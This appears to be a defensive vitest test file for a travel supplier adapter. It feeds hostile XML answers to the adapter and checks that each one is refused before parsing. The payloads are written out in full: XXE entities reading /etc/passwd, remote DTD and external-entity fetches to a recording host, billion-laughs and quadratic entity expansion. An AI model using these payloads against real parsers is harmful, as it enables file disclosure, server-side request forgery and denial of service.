/**
 * XML attacks from an OpenTravel supplier (OWASP's XXE and entity-expansion classes): a hostile fake in front
 * of the OpenTravel sandbox answers documents that declare a DOCTYPE, each aimed at one way a parser can be
 * turned against its reader: an external entity reading a local file (XXE), an external entity and a remote
 * DTD fetched from another host (a recording host on 127.0.0.2), and entities that expand to gigabytes
 * (billion laughs, quadratic blow-up). No OTA message has a DOCTYPE: every one is refused before a parser
 * sees it (xml.ts), quickly, naming the reason, and nothing reaches the other host.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asContracted } from '../../functions/suppliers/as-contracted.js';
import { guardedSupplier } from '../../functions/suppliers/guarded-supplier.js';
import { OpenTravelAdapter } from '../../functions/suppliers/opentravel/adapter.js';
import type { SupplierPort } from '../../functions/suppliers/port.js';
import { SupplierError } from '../../functions/suppliers/supplier-error.js';
import { NO_LATENCY } from '../../sandbox/latency.js';
import { type OpenTravelSandbox, startOpenTravelSandbox } from '../../sandbox/opentravel/server.js';
import { type HostileSupplier, type RecordingHost, startHostileSupplier, startRecordingHost } from '../support/hostile-supplier.js';
import { cityArea } from '../support/supplier-destinations.js';

let sandbox: OpenTravelSandbox;
let hostile: HostileSupplier;
let recorder: RecordingHost;
let adapter: SupplierPort;

beforeAll(async () => {
  sandbox = await startOpenTravelSandbox({ apiKey: 'sandbox-key', secret: 'sandbox-secret', latency: NO_LATENCY });
  hostile = await startHostileSupplier(sandbox.url, 'opentravel');
  recorder = await startRecordingHost();
  adapter = guardedSupplier(
    asContracted(
      { supplierId: 'opentravel', pointOfSale: 'GB' },
      new OpenTravelAdapter({ baseUrl: hostile.url, apiKey: 'sandbox-key', secret: 'sandbox-secret', timeoutMs: 10_000 }),
    ),
  );
}, 60_000);
afterAll(async () => {
  await hostile?.close();
  await recorder?.close();
  await sandbox?.close();
});

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>';
const RS = (inner: string) =>
  `<OTA_HotelAvailRS xmlns="http://www.opentravel.org/OTA/2003/05" Version="1.000"><Success/><RoomStays><RoomStay RoomStayCandidateRPH="1"><RoomTypes><RoomType RoomTypeCode="DBL"/></RoomTypes><RatePlans><RatePlan RatePlanCode="BAR"/></RatePlans><Total AmountAfterTax="120.00" CurrencyCode="GBP"/><BasicPropertyInfo HotelCode="H1" HotelName="${inner}" HotelCityCode="PAR"/></RoomStay></RoomStays></OTA_HotelAvailRS>`;

const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');

const ATTACKS: Record<string, () => string> = {
  'XXE: an external entity reading a local file': () =>
    `${HEAD}<!DOCTYPE OTA_HotelAvailRS [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${RS('&xxe;')}`,
  'XXE: an external entity on another host': () =>
    `${HEAD}<!DOCTYPE OTA_HotelAvailRS [<!ENTITY ext SYSTEM "${recorder.url}/entity">]>${RS('&ext;')}`,
  'a remote DTD': () => `${HEAD}<!DOCTYPE OTA_HotelAvailRS SYSTEM "${recorder.url}/evil.dtd">${RS('Hotel')}`,
  'a parameter entity loading a remote DTD': () =>
    `${HEAD}<!DOCTYPE OTA_HotelAvailRS [<!ENTITY % remote SYSTEM "${recorder.url}/param.dtd"> %remote;]>${RS('Hotel')}`,
  'billion laughs (entity expansion to 10^9 characters)': () =>
    `${HEAD}<!DOCTYPE OTA_HotelAvailRS [<!ENTITY lol0 "lol">${lols}]>${RS('&lol9;')}`,
  'quadratic blow-up (one large entity used many times)': () =>
    `${HEAD}<!DOCTYPE OTA_HotelAvailRS [<!ENTITY a "${'a'.repeat(50_000)}">]>${RS('&a;'.repeat(20_000))}`,
  'a DOCTYPE after a comment and a processing instruction': () =>
    `${HEAD}<!-- note --><?pi x?>\n<!DOCTYPE OTA_HotelAvailRS [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>${RS('&xxe;')}`,
};

function question() {
  const day = 86_400_000;
  const start = Date.now() + 45 * day;
  return {
    destination: cityArea('PAR'),
    checkIn: new Date(start).toISOString().slice(0, 10),
    checkOut: new Date(start + 2 * day).toISOString().slice(0, 10),
    occupancies: [{ adults: 2, childrenAges: [] }],
    nationality: 'GB',
  };
}

describe('XML attacks from an OpenTravel supplier', () => {
  for (const [what, document] of Object.entries(ATTACKS)) {
    it(`${what}: refused (xml_doctype) before any parser reads it, and nothing reaches another host`, async () => {
      hostile.set((method, path) => method === 'POST' && path === '/ota', {
        kind: 'answer',
        status: 200,
        body: document(),
        contentType: 'application/xml',
      });
      const started = performance.now();
      try {
        const error = await adapter.searchAvailability(question()).then(
          () => undefined,
          (e: unknown) => e,
        );
        expect(error).toBeInstanceOf(SupplierError);
        expect((error as SupplierError).details.reason).toBe('xml_doctype');
        // Nothing of a local file in what we say.
        expect((error as SupplierError).message).not.toMatch(/root:|nologin|\/bin\//);
      } finally {
        hostile.set(undefined);
      }
      expect(performance.now() - started).toBeLessThan(2_000);
      expect(recorder.received).toEqual([]);
    });
  }

  it('the same document without its DOCTYPE is read (the refusal is the DOCTYPE, not the answer)', async () => {
    hostile.set((method, path) => method === 'POST' && path === '/ota', {
      kind: 'answer',
      status: 200,
      body: `${HEAD}${RS('Hotel Lumière')}`,
      contentType: 'application/xml',
    });
    try {
      const result = await adapter.searchAvailability(question());
      expect(result.offers.map((o) => o.name)).toEqual(['Hotel Lumière']);
    } finally {
      hostile.set(undefined);
    }
  });

  it('a booking answer with a DOCTYPE is an unknown outcome (the booking is looked up), never a refusal', async () => {
    hostile.set((method, path) => method === 'POST' && path === '/ota', {
      kind: 'answer',
      status: 200,
      body: `${HEAD}<!DOCTYPE OTA_HotelResRS [<!ENTITY x SYSTEM "${recorder.url}/booking">]><OTA_HotelResRS xmlns="http://www.opentravel.org/OTA/2003/05"><Success/></OTA_HotelResRS>`,
      contentType: 'application/xml',
    });
    try {
      const error = await adapter.getBooking({ supplierReference: 'OT-1' }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toMatchObject({ kind: 'bad_response', details: { reason: 'xml_doctype' } });
      expect((error as SupplierError).outcomeUnknown).toBe(true);
    } finally {
      hostile.set(undefined);
    }
    expect(recorder.received).toEqual([]);
  });
});
